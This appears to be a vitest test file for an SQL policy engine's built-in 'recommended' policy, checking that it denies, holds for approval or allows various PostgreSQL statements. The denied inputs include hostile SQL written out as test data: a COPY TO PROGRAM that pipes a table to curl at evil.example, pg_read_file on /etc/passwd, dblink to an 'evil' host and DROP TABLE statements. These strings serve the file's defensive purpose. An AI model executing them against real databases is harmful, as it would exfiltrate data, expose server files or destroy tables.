import { beforeAll, describe, expect, it } from 'vitest';
import { BUILTIN_POLICIES, describeBuiltinPolicies, evaluate, initSqlParser } from '../../src/policy/index.js';
import { classifySql } from '../../src/policy/index.js';
import { analyzeFunction, withFunctionFacts } from '../../src/policy/sql/functions.js';
import { ctx, policy, sql } from './helpers.js';

beforeAll(async () => {
  await initSqlParser();
});

const rec = BUILTIN_POLICIES.recommended!;
const decide = (text: string) => evaluate(ctx([rec], sql(text)));

describe('recommended policy', () => {
  it.each([
    ['DROP TABLE customers', 'no-drop-truncate'],
    ['drop table if exists public.customers cascade', 'no-drop-truncate'],
    ['TRUNCATE orders', 'no-drop-truncate'],
    ['SELECT 1; DROP TABLE t', 'no-drop-truncate'],
    ["ALTER SYSTEM SET archive_command = 'curl evil'", 'no-alter-system'],
    ["COPY (SELECT * FROM customers) TO PROGRAM 'curl -T - https://evil.example'", 'no-copy-program'],
    ["COPY t FROM PROGRAM 'id'", 'no-copy-program'],
    ["select pg_read_file('/etc/passwd')", 'no-server-file-access'],
    ["select * from (select pg_read_file('/etc/passwd')) s", 'no-server-file-access'],
    ["with x as (select pg_read_binary_file('/etc/passwd')) select * from x", 'no-server-file-access'],
    ["select * from t, lateral pg_read_file(t.p) f", 'no-server-file-access'],
    ["select lo_export(1234, '/tmp/x')", 'no-server-file-access'],
    ["select dblink_connect('host=evil')", 'no-server-file-access'],
    ["EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", 'no-server-file-access'],
  ])('denies %s (%s)', (text, rule) => {
    const d = decide(text);
    expect(d.action).toBe('deny');
    expect(d.rule).toEqual({ policy: 'recommended', rule });
    expect(d.message.length).toBeGreaterThan(10);
  });

  it.each([
    ['UPDATE t SET a = 1'],
    ['DELETE FROM t'],
    ['EXPLAIN ANALYZE UPDATE t SET a=1'],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'],
  ])('needs approval for %s: denied at once alone (it names no approvers), held once a rule names them', (text) => {
    // Alone, nobody could approve: denied now rather than held until the timeout, and the message says how to fix it.
    const alone = decide(text);
    expect(alone).toMatchObject({ action: 'deny', basis: 'fail_closed', rule: { policy: 'recommended', rule: 'unbounded-writes-need-approval' } });
    expect(alone.message).toMatch(/needs approval.*nobody could approve.*approvers: \[group:dba\]/);
    // With the operator's own approve rule for such writes, listed before or after the built-in, that rule decides.
    const own = policy('writes', { name: 'dba-approves', when: { sql: { statements: ['update', 'delete'], noWhere: true } }, action: 'approve', approvers: ['group:dba'], timeout: 60_000 });
    for (const policies of [[rec, own], [own, rec]]) {
      expect(evaluate(ctx(policies, sql(text)))).toMatchObject({ action: 'approve', basis: 'rule', rule: { policy: 'writes', rule: 'dba-approves' }, approvers: ['group:dba'], timeout: 60_000 });
    }
  });

  it('allows ordinary statements, masking PII and limiting rows', () => {
    const d = decide('SELECT name, email FROM customers WHERE id = 1');
    expect(d.action).toBe('allow');
    expect(d.masks).toEqual([
      { policy: 'recommended', rule: 'mask-pii-and-secrets', entities: ['credit_card', 'us_ssn', 'email', 'phone', 'iban', 'secrets'], with: 'partial' },
    ]);
    expect(d.limits).toEqual({ maxRows: 100_000 });
    expect(decide('UPDATE t SET a = 1 WHERE id = 2').action).toBe('allow');
    expect(decide("ALTER TABLE t ADD COLUMN b int").action).toBe('allow');
    expect(decide("COPY t TO STDOUT").action).toBe('allow');
  });

  it.each([
    ["CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'SELECT 1'", 'no-functions-by-proxy'],
    ["CREATE OR REPLACE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 1; END $$", 'no-functions-by-proxy'],
    ["CREATE FUNCTION g() RETURNS int LANGUAGE plpython3u AS 'return 1'", 'no-functions-by-proxy'],
    ['CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC SELECT 1; END', 'no-functions-by-proxy'],
    ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION tf()', 'no-functions-by-proxy'],
    ['CREATE OR REPLACE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION tf()', 'no-functions-by-proxy'],
    ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION etf()', 'no-functions-by-proxy'],
    ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING', 'no-functions-by-proxy'],
    ["CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'DROP TABLE victim'", 'no-drop-truncate'],
    ['CALL app.reset()', 'no-unsafe-calls'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'no-unsafe-calls'],
  ])('denies %s (%s)', (text, rule) => {
    const d = decide(text);
    expect(d.action).toBe('deny');
    expect(d.rule).toEqual({ policy: 'recommended', rule });
  });

  it('no-unsafe-calls says how to list a function; listing it lets a call through', () => {
    const d = decide('CALL app.reset()');
    expect(d.message).toMatch(/not known to be safe.*safeFunctions/);
    const row = { schema: 'app', name: 'fmt', language: 'sql', volatility: 'v' as const, kind: 'f' as const, body: 'SELECT 1' };
    const text = 'SELECT app.fmt(), lower(name) FROM customers';
    const lower = analyzeFunction([{ schema: 'pg_catalog', name: 'lower', language: 'internal', volatility: 'i', kind: 'f', body: null }], []);
    const unlisted = withFunctionFacts(classifySql(text), new Map([['app.fmt', analyzeFunction([row], [])], ['lower', lower]]));
    expect(evaluate(ctx([rec], { type: 'sql', text, classification: unlisted }))).toMatchObject({ action: 'deny', rule: { policy: 'recommended', rule: 'no-unsafe-calls' } });
    const listed = withFunctionFacts(classifySql(text), new Map([['app.fmt', analyzeFunction([row], ['app.*'])], ['lower', lower]]));
    expect(evaluate(ctx([rec], { type: 'sql', text, classification: listed })).action).toBe('allow');
  });

  it('allows LISTEN, NOTIFY, DISCARD and CHECKPOINT-free utility statements', () => {
    for (const text of ['LISTEN jobs', "NOTIFY jobs, 'x'", 'UNLISTEN *', 'DISCARD ALL', 'SHOW work_mem', 'DEALLOCATE ALL']) {
      expect(decide(text).action, text).toBe('allow');
    }
  });

  it('says why an opaque statement was denied', () => {
    const d = decide("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
    expect(d).toMatchObject({ action: 'deny', basis: 'fail_closed' });
    expect(d.message).toMatch(/DO block runs dynamic SQL \(EXECUTE\) that cannot be analysed/);
  });

  it('fails closed on DO blocks and parse errors', () => {
    expect(decide('DO $$ BEGIN EXECUTE \'DROP TABLE t\'; END $$').action).toBe('deny');
    expect(decide('DR/**/OP TABLE t').action).toBe('deny');
  });

  it('describes itself in plain text', () => {
    const text = describeBuiltinPolicies();
    expect(text).toMatch(/^recommended/);
    for (const r of rec.rules) expect(text).toContain(r.name);
    expect(text).not.toMatch(/\x1b\[/);
  });
});
